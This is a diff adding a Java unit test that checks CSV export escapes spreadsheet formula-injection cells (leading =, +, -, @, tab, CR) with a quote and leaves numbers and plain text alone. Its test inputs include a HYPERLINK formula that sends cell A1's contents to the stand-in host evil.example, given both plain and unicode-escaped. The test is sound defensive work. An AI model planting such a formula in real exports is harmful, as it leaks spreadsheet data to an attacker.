@@ -71,8 +71,57 @@ class MapCsvTest {
         }
     }
 
+    @Test
+    void cellsThatASpreadsheetWouldRunAsFormulasGetALeadingQuoteOnEveryPathButNumbersNever() throws IOException {
+        String[] prompts = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
+            "\tlead tab", "\rlead cr", "plain", "a=b", "'already", "-"};
+        String[] ids = {"=id", "+id", "-1", "@id", "\tid", "\rid", "id-6", "id=7", "'id", "-"};
+        List<byte[]> literals = new ArrayList<>();
+        List<MapPoint> points = new ArrayList<>();
+        for (int key = 0; key < prompts.length; key++) {
+            literals.add(JSON.writeValueAsBytes(prompts[key]));
+            points.add(new MapPoint(key, ids[key], 2, -0.5, 0.25, 0.5, Region.HIGH_AVG, -1.0 / 3));
+        }
+        // an escaped first character (a u-escape of the equals sign, an escaped tab) as a JSON writer may give it
+        literals.set(0, "\"\\u003dHYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"".getBytes(StandardCharsets.UTF_8));
+        literals.set(4, "\"\\tlead tab\"".getBytes(StandardCharsets.UTF_8));
+        assertThat(JsonStrings.at(literals.get(0), 0, literals.get(0).length)).isEqualTo(prompts[0]);
+        List<String> neutralised = new ArrayList<>();
+        List<String> raw = new ArrayList<>();
+        List<MapPoint> neutralisedPoints = new ArrayList<>();
+        for (int key = 0; key < prompts.length; key++) {
+            raw.add(prompts[key]);
+            neutralised.add(org.admap.csv.CsvCells.NEUTRALISED.text(prompts[key]));
+            MapPoint p = points.get(key);
+            neutralisedPoints.add(new MapPoint(key, org.admap.csv.CsvCells.NEUTRALISED.text(p.id()), p.n(), p.mean(),
+                    p.variance(), p.std(), p.region(), p.correlation()));
+        }
+        assertThat(neutralised.get(0)).startsWith("'=HYPERLINK");
+        assertThat(neutralised.subList(6, 10)).containsExactly("plain", "a=b", "'already", "'-");
+        byte[] expectNeutralised = commonsCsv(neutralised, neutralisedPoints, true);
+        byte[] expectRaw = commonsCsv(raw, points, true);
+        for (boolean asLiterals : new boolean[] {true, false}) {
+            Path file = tmp.resolve("hostile-" + asLiterals + ".csv");
+            MapCsv.write(prompts.length, chunks(prompts.length, 4, literals, asLiterals, ids), 2, points, true, false,
+                    org.admap.csv.CsvCells.NEUTRALISED, file);
+            assertThat(Files.readAllBytes(file)).as("literals %s", asLiterals).isEqualTo(expectNeutralised);
+            String text = Files.readString(file);
+            assertThat(text).contains("'=HYPERLINK").contains(",-0.5,0.25,0.5,high-avg,-0.3333333333333333\r\n")
+                    .doesNotContain(",=").doesNotContain("\n=").doesNotContain(",\"=");
+            MapCsv.write(prompts.length, chunks(prompts.length, 4, literals, asLiterals, ids), 2, points, true, false,
+                    org.admap.csv.CsvCells.RAW, file);
+            assertThat(Files.readAllBytes(file)).as("raw, literals %s", asLiterals).isEqualTo(expectRaw);
+        }
+    }
+
     /** Chunks of {@code size} items whose prompts are given as literals or as decoded Strings. */
     private static MapCsv.PromptChunks chunks(int items, int size, List<byte[]> literals, boolean asLiterals) {
+        return chunks(items, size, literals, asLiterals, null);
+    }
+
+    /** {@link #chunks(int, int, List, boolean)} with these ids (null: id-KEY). */
+    private static MapCsv.PromptChunks chunks(int items, int size, List<byte[]> literals, boolean asLiterals,
+                                              String[] ids) {
         return new MapCsv.PromptChunks() {
             @Override
             public int count() {
@@ -83,10 +132,11 @@ class MapCsvTest {
             public void forEach(int chunk, MapCsv.Prompts.Row row) throws IOException {
                 for (int key = chunk * size; key < Math.min(items, (chunk + 1) * size); key++) {
                     byte[] literal = literals.get(key);
+                    String id = ids == null ? "id-" + key : ids[key];
                     if (asLiterals) {
-                        row.acceptLiteral(key, "id-" + key, literal, 0, literal.length);
+                        row.acceptLiteral(key, id, literal, 0, literal.length);
                     } else {
-                        row.accept(key, "id-" + key, JsonStrings.at(literal, 0, literal.length));
+                        row.accept(key, id, JsonStrings.at(literal, 0, literal.length));
                     }
                 }
             }
